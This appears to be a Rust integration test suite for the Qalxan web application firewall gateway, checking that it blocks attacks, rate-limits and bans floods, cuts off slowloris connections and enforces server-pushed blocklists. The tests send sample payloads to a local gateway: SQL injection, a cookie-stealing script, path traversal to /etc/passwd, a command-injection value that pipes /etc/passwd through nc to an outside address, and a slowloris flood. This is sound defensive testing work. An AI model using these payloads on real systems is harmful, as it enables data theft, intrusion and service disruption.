//! The gateway end to end: a real upstream on 127.0.0.1, the gateway in front of it with the
//! OWASP CRS, and the Qalxan server receiving its block events.

#![allow(clippy::unwrap_used)] // A test that cannot unwrap should fail loudly.

mod common;

use axum::body::Bytes;
use axum::routing::any;
use common::TestServer;
use qalxan_core::Role;
use qalxan_gateway::{Config, ServerLink, WafMode};
use reqwest::StatusCode;
use serde_json::Value;
use std::path::Path;
use std::time::Duration;

const CRS: &str = "/usr/share/modsecurity-crs/rules";

/// An upstream that says what it received.
async fn upstream() -> String {
    let app = axum::Router::new().fallback(any(|uri: axum::http::Uri, body: Bytes| async move {
        format!("upstream saw {} with {} body bytes", uri, body.len())
    }));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await });
    format!("http://{addr}")
}

async fn gateway(config: Config) -> String {
    let plan = match config.waf {
        WafMode::Off => None,
        mode => {
            Some(qalxan_gateway::load_plan(config.rules.as_deref(), mode, config.paranoia).unwrap())
        }
    };
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(qalxan_gateway::run(
        config,
        plan,
        listener,
        None,
        std::future::pending(),
    ));
    format!("http://{addr}")
}

/// A gateway with its admin API; returns (proxy URL, admin URL).
async fn gateway_with_admin(config: Config) -> (String, String) {
    let plan = match config.waf {
        WafMode::Off => None,
        mode => {
            Some(qalxan_gateway::load_plan(config.rules.as_deref(), mode, config.paranoia).unwrap())
        }
    };
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let admin = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let urls = (
        format!("http://{}", listener.local_addr().unwrap()),
        format!("http://{}", admin.local_addr().unwrap()),
    );
    tokio::spawn(qalxan_gateway::run(
        config,
        plan,
        listener,
        Some(admin),
        std::future::pending(),
    ));
    urls
}

fn config(upstream: &str) -> Config {
    Config {
        upstream: upstream.parse().unwrap(),
        waf: WafMode::Block,
        rules: None,
        paranoia: 1,
        inspect_limit: 128 * 1024,
        server: None,
        access_log: None,
        audit_log: None,
        limits: qalxan_gateway::Limits::default(),
        admin_token: None,
        header_timeout: Duration::from_secs(10),
        body_timeout: Duration::from_secs(30),
        lists_every: None,
    }
}

fn client() -> reqwest::Client {
    reqwest::Client::builder()
        .user_agent("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
        .build()
        .unwrap()
}

#[tokio::test]
async fn crs_blocks_attacks_with_a_reference_and_reports_them() {
    if !Path::new(CRS).is_dir() {
        eprintln!("SKIPPED: Debian's modsecurity-crs is not installed");
        return;
    }
    let server = TestServer::start().await;
    let token = server.token(Role::Sensor, None).await;
    let institution = server.institution("Ministry of Digital Development").await;
    let logs = tempfile::tempdir().unwrap();
    let up = upstream().await;
    let gw = gateway(Config {
        server: Some(ServerLink {
            url: server.base.clone(),
            token,
            institution_id: Some(institution.0),
        }),
        access_log: Some(logs.path().join("access.log")),
        audit_log: Some(logs.path().join("audit.log")),
        ..config(&up)
    })
    .await;
    let c = client();

    let r = c
        .get(format!("{gw}/news/2026/budget.html?page=2&sort=date"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    assert_eq!(
        r.text().await.unwrap(),
        "upstream saw /news/2026/budget.html?page=2&sort=date with 0 body bytes"
    );

    let mut references = Vec::new();
    for attack in [
        "/item.php?id=1%27%20OR%20%271%27%3D%271",
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
        "/download.php?file=..%2F..%2F..%2Fetc%2Fpasswd",
    ] {
        let r = c.get(format!("{gw}{attack}")).send().await.unwrap();
        assert_eq!(r.status(), StatusCode::FORBIDDEN, "{attack}");
        let reference = r.headers()["x-qalxan-reference"]
            .to_str()
            .unwrap()
            .to_owned();
        let page = r.text().await.unwrap();
        assert!(
            page.contains(&reference),
            "the page shows the reference: {page}"
        );
        references.push(reference);
    }
    // The same URL with a harmless value passes.
    let r = c.get(format!("{gw}/item.php?id=42")).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::OK);

    let r = c
        .post(format!("{gw}/contact"))
        .form(&[
            ("name", "x"),
            ("msg", ";cat /etc/passwd|nc 198.51.100.1 4444"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let r = c
        .post(format!("{gw}/upload"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body([b"data=".as_slice(), &vec![b'a'; 300 * 1024 - 5]].concat())
        .send()
        .await
        .unwrap();
    assert_eq!(
        r.status(),
        StatusCode::OK,
        "a body past the inspection limit streams through"
    );
    assert_eq!(
        r.text().await.unwrap(),
        "upstream saw /upload with 307200 body bytes"
    );
    let r = c
        .get(format!("{gw}/item.php?id=1%27%20OR%20%271%27%3D%271"))
        .header("accept", "application/json")
        .send()
        .await
        .unwrap();
    let blocked: Value = r.json().await.unwrap();
    assert_eq!(blocked["error"], "request blocked");

    // The server learns of every block, tied to the institution, with the reference.
    let analyst = server.api(&server.token(Role::Analyst, None).await);
    let mut seen = Vec::new();
    for _ in 0..100 {
        let (_, page) = analyst.get("/api/v1/events?kind=waf.blocked").await;
        seen = page["items"].as_array().unwrap().clone();
        if seen.len() >= 5 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(seen.len(), 5, "{seen:?}");
    assert!(seen
        .iter()
        .all(|e| e["institution_id"] == institution.0 && e["source"] == "token:sensor-token"));
    for reference in &references {
        let event = seen
            .iter()
            .find(|e| e["attributes"]["reference"] == reference.as_str())
            .unwrap();
        assert!(
            event["attributes"]["rules"]
                .as_array()
                .unwrap()
                .iter()
                .any(|r| r == 949110),
            "{event}"
        );
    }
    let (_, overview) = analyst.get("/api/v1/overview").await;
    assert_eq!(overview["series"][0]["kind"], "waf.blocked");
    assert_eq!(overview["series"][0]["total"], 5);

    let access = std::fs::read_to_string(logs.path().join("access.log")).unwrap();
    let lines: Vec<Value> = access
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 8);
    assert_eq!(lines.iter().filter(|l| l["waf"] == "blocked").count(), 5);
    let audit = std::fs::read_to_string(logs.path().join("audit.log")).unwrap();
    assert!(
        audit.contains("\"ruleId\":\"942100\""),
        "the SQLi block is in the audit log"
    );
}

#[tokio::test]
async fn detect_mode_logs_but_lets_requests_through() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules.conf");
    std::fs::write(
        &rules,
        "SecRule ARGS \"@rx (?i)union\\s+select\" \"id:1001,phase:2,deny,t:urlDecodeUni,msg:'SQLi'\"\n",
    )
    .unwrap();
    let up = upstream().await;
    let audit = dir.path().join("audit.log");
    let gw = gateway(Config {
        waf: WafMode::Detect,
        rules: Some(rules.clone()),
        audit_log: Some(audit.clone()),
        ..config(&up)
    })
    .await;
    let r = client()
        .get(format!("{gw}/?q=1%20UNION%20SELECT%20pw"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert!(std::fs::read_to_string(&audit)
        .unwrap()
        .contains("\"ruleId\":\"1001\""));

    let blocking = gateway(Config {
        rules: Some(rules),
        ..config(&up)
    })
    .await;
    let r = client()
        .get(format!("{blocking}/?q=1%20UNION%20SELECT%20pw"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);

    let off = gateway(Config {
        waf: WafMode::Off,
        ..config(&up)
    })
    .await;
    let r = client()
        .get(format!("{off}/?q=1%20UNION%20SELECT%20pw"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
}

#[tokio::test]
async fn a_rule_file_with_an_error_is_refused_with_its_place() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("bad.conf");
    std::fs::write(
        &rules,
        "SecRule ARGS \"@rx a\" \"id:1,phase:2,deny\"\nSecRule ARGZ \"@rx b\" \"id:2\"\n",
    )
    .unwrap();
    let err = qalxan_gateway::load_plan(Some(&rules), WafMode::Block, 1)
        .err()
        .unwrap()
        .to_string();
    assert!(
        err.contains("bad.conf:2:9: unknown variable 'ARGZ'"),
        "{err}"
    );
}

#[tokio::test]
async fn the_gateway_command_serves_and_unreachable_upstreams_answer_502() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules.conf");
    std::fs::write(
        &rules,
        "SecRule ARGS \"@contains evil\" \"id:1,phase:2,deny\"\n",
    )
    .unwrap();
    let up = upstream().await;
    let mut child = tokio::process::Command::new(env!("CARGO_BIN_EXE_qalxan"))
        .args([
            "gateway",
            "--listen",
            "127.0.0.1:0",
            "--upstream",
            &up,
            "--rules",
        ])
        .arg(&rules)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    use tokio::io::AsyncBufReadExt;
    let mut lines = tokio::io::BufReader::new(child.stdout.take().unwrap()).lines();
    let line = tokio::time::timeout(Duration::from_secs(60), lines.next_line())
        .await
        .unwrap()
        .unwrap()
        .unwrap();
    let gw = line
        .split("gateway on ")
        .nth(1)
        .unwrap()
        .split(' ')
        .next()
        .unwrap()
        .trim_end_matches('/')
        .to_owned();
    assert_eq!(
        client()
            .get(format!("{gw}/?a=fine"))
            .send()
            .await
            .unwrap()
            .status(),
        StatusCode::OK
    );
    assert_eq!(
        client()
            .get(format!("{gw}/?a=evil"))
            .send()
            .await
            .unwrap()
            .status(),
        StatusCode::FORBIDDEN
    );

    let nowhere = gateway(Config {
        waf: WafMode::Off,
        ..config("http://127.0.0.1:9")
    })
    .await;
    let r = client().get(format!("{nowhere}/")).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::BAD_GATEWAY);
}

fn client_from(ip: [u8; 4]) -> reqwest::Client {
    reqwest::Client::builder()
        .local_address(std::net::IpAddr::from(ip))
        .build()
        .unwrap()
}

#[tokio::test]
async fn a_flooding_client_is_limited_then_banned_while_others_are_served() {
    let server = TestServer::start().await;
    let token = server.token(Role::Sensor, None).await;
    let up = upstream().await;
    let (gw, admin) = gateway_with_admin(Config {
        waf: WafMode::Off,
        server: Some(ServerLink {
            url: server.base.clone(),
            token,
            institution_id: None,
        }),
        limits: qalxan_gateway::Limits {
            rate: Some((20.0, 20.0)),
            max_connections: None,
            ban: Some(qalxan_gateway::BanPolicy {
                strikes: 40,
                window: Duration::from_secs(60),
                duration: Duration::from_secs(600),
            }),
        },
        ..config(&up)
    })
    .await;

    // A well-behaved client at 10 requests per second, from its own address.
    let calm = {
        let gw = gw.clone();
        tokio::spawn(async move {
            let c = client_from([127, 0, 0, 3]);
            let mut ok = 0;
            for _ in 0..30 {
                if c.get(format!("{gw}/"))
                    .send()
                    .await
                    .is_ok_and(|r| r.status() == StatusCode::OK)
                {
                    ok += 1;
                }
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
            ok
        })
    };
    // A flood from another: 400 requests as fast as 8 connections go.
    let mut flood = Vec::new();
    for _ in 0..8 {
        let gw = gw.clone();
        flood.push(tokio::spawn(async move {
            let c = client_from([127, 0, 0, 2]);
            let mut statuses = Vec::new();
            for _ in 0..50 {
                match c.get(format!("{gw}/")).send().await {
                    Ok(r) => statuses.push(r.status().as_u16()),
                    Err(_) => statuses.push(0),
                }
            }
            statuses
        }));
    }
    let mut statuses = Vec::new();
    for f in flood {
        statuses.extend(f.await.unwrap());
    }
    let count = |s: u16| statuses.iter().filter(|x| **x == s).count();
    assert!(
        count(200) <= 100,
        "the flood got {} answers through",
        count(200)
    );
    assert!(
        count(429) > 0 && count(403) > 0,
        "limited, then banned: {statuses:?}"
    );
    assert_eq!(
        calm.await.unwrap(),
        30,
        "the other client kept being served"
    );

    let c = client();
    let bans: Value = c
        .get(format!("{admin}/bans"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(bans[0]["ip"], "127.0.0.2", "{bans}");
    let metrics = c
        .get(format!("{admin}/metrics"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(metrics.contains("qalxan_gateway_bans_total 1"), "{metrics}");

    // The server learns of the flood and the ban.
    let analyst = server.api(&server.token(Role::Analyst, None).await);
    let mut ddos = Value::Null;
    for _ in 0..100 {
        let (_, page) = analyst.get("/api/v1/events?kind=ddos.detected").await;
        if page["items"].as_array().is_some_and(|i| !i.is_empty()) {
            ddos = page["items"][0].clone();
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(ddos["attributes"]["client_ip"], "127.0.0.2", "{ddos}");
    assert!(
        ddos["value"].as_i64().unwrap() >= 20,
        "the peak rate: {ddos}"
    );
    let (_, banned) = analyst.get("/api/v1/events?kind=gateway.banned").await;
    assert_eq!(banned["items"].as_array().unwrap().len(), 1);

    // Lifting the ban lets the address back in.
    let r = c
        .delete(format!("{admin}/bans/127.0.0.2"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::NO_CONTENT);
    tokio::time::sleep(Duration::from_millis(200)).await;
    let r = client_from([127, 0, 0, 2])
        .get(format!("{gw}/"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let r = c
        .delete(format!("{admin}/bans/127.0.0.2"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn repeated_attacks_earn_a_ban() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules.conf");
    std::fs::write(
        &rules,
        "SecRule ARGS \"@contains evil\" \"id:1,phase:2,deny\"\n",
    )
    .unwrap();
    let up = upstream().await;
    let gw = gateway(Config {
        rules: Some(rules),
        limits: qalxan_gateway::Limits {
            ban: Some(qalxan_gateway::BanPolicy {
                strikes: 3,
                window: Duration::from_secs(60),
                duration: Duration::from_secs(60),
            }),
            ..qalxan_gateway::Limits::default()
        },
        ..config(&up)
    })
    .await;
    let attacker = client_from([127, 0, 0, 4]);
    for _ in 0..3 {
        let r = attacker.get(format!("{gw}/?q=evil")).send().await.unwrap();
        assert_eq!(r.status(), StatusCode::FORBIDDEN);
        assert!(r.headers().contains_key("x-qalxan-reference"));
    }
    // Now even a harmless request from that address is refused, on a new connection too.
    let r = client_from([127, 0, 0, 4])
        .get(format!("{gw}/?q=fine"))
        .send()
        .await;
    assert!(r.is_err() || r.unwrap().status() == StatusCode::FORBIDDEN);
    let r = client_from([127, 0, 0, 5])
        .get(format!("{gw}/?q=fine"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
}

#[tokio::test]
async fn slow_clients_are_cut_off_and_do_not_stop_others() {
    use tokio::io::AsyncWriteExt;
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules.conf");
    std::fs::write(
        &rules,
        "SecRule ARGS \"@contains evil\" \"id:1,phase:2,deny\"\n",
    )
    .unwrap();
    let up = upstream().await;
    let gw = gateway(Config {
        rules: Some(rules),
        header_timeout: Duration::from_secs(1),
        body_timeout: Duration::from_secs(1),
        lists_every: None,
        ..config(&up)
    })
    .await;
    let addr = gw.trim_start_matches("http://").to_owned();
    // 500 slowloris connections: a request line and then nothing.
    let mut slow = Vec::new();
    for _ in 0..500 {
        let mut s = tokio::net::TcpStream::connect(&addr).await.unwrap();
        s.write_all(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ")
            .await
            .unwrap();
        slow.push(s);
    }
    // A normal client is served meanwhile.
    for _ in 0..20 {
        let r = client().get(format!("{gw}/?q=fine")).send().await.unwrap();
        assert_eq!(r.status(), StatusCode::OK);
    }
    // After the timeout every slow connection has been closed by the gateway.
    tokio::time::sleep(Duration::from_millis(2500)).await;
    let mut closed = 0;
    for mut s in slow {
        use tokio::io::AsyncReadExt;
        let mut buf = [0u8; 512];
        match tokio::time::timeout(Duration::from_millis(200), s.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => closed += 1,
            Ok(Ok(_)) => closed += 1, // an error response, then the close
            Err(_) => {}
        }
    }
    assert_eq!(closed, 500);

    // A slow POST: headers promise a body that trickles in too slowly.
    let mut s = tokio::net::TcpStream::connect(&addr).await.unwrap();
    s.write_all(b"POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\na=").await.unwrap();
    use tokio::io::AsyncReadExt;
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), s.read_to_end(&mut answer)).await;
    let answer = String::from_utf8_lossy(&answer);
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
}

/// A blocking indicator added on the server is enforced by a running gateway within seconds,
/// the block is reported, and the indicator's sightings count it.
#[tokio::test]
async fn blocklist_from_the_server_is_enforced_within_seconds() {
    let server = TestServer::start().await;
    let sensor = server.token(Role::Sensor, None).await;
    let analyst = server.api(&server.token(Role::Analyst, None).await);
    let up = upstream().await;
    let gw = gateway(Config {
        waf: WafMode::Off,
        server: Some(ServerLink {
            url: server.base.clone(),
            token: sensor,
            institution_id: None,
        }),
        lists_every: Some(Duration::from_millis(500)),
        ..config(&up)
    })
    .await;
    let c = client();
    let get = |host: &'static str, path: &'static str| {
        let c = c.clone();
        let gw = gw.clone();
        async move {
            c.get(format!("{gw}{path}"))
                .header("Host", host)
                .send()
                .await
                .unwrap()
                .status()
        }
    };
    assert_eq!(get("shop.phish.example", "/").await, StatusCode::OK);
    assert_eq!(
        get("portal.example", "/payload/x.exe").await,
        StatusCode::OK
    );

    let added = std::time::Instant::now();
    for value in ["phish.example", "http://portal.example/payload/x.exe"] {
        let (status, body) = analyst
            .post(
                "/api/v1/intel/indicators",
                &serde_json::json!({"value": value, "tlp": "green"}),
            )
            .await;
        assert_eq!(status, StatusCode::CREATED, "{body}");
    }
    // The two indicators were added by two requests: a pull may fall between them, so wait
    // until the list holds both.
    let mut enforced = false;
    while added.elapsed() < Duration::from_secs(10) {
        if get("shop.phish.example", "/").await == StatusCode::FORBIDDEN
            && get("portal.example", "/payload/x.exe").await == StatusCode::FORBIDDEN
        {
            enforced = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(
        enforced,
        "the gateway did not enforce the new indicators within 10 s"
    );
    eprintln!(
        "enforced {} ms after the indicators were added",
        added.elapsed().as_millis()
    );
    assert_eq!(get("portal.example", "/other").await, StatusCode::OK);

    // The blocks arrive as events and count as sightings of the indicator.
    let mut sighted = 0;
    for _ in 0..50 {
        let (_, m) = analyst.get("/api/v1/intel/match?value=phish.example").await;
        sighted = m["matches"][0]["sightings"].as_i64().unwrap_or(0);
        if sighted >= 1 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert!(sighted >= 1, "no sighting recorded");
    let (_, events) = analyst.get("/api/v1/events?kind=waf.blocked").await;
    assert!(
        events.to_string().contains("\"blocklist\":\"domain\""),
        "{events}"
    );
}
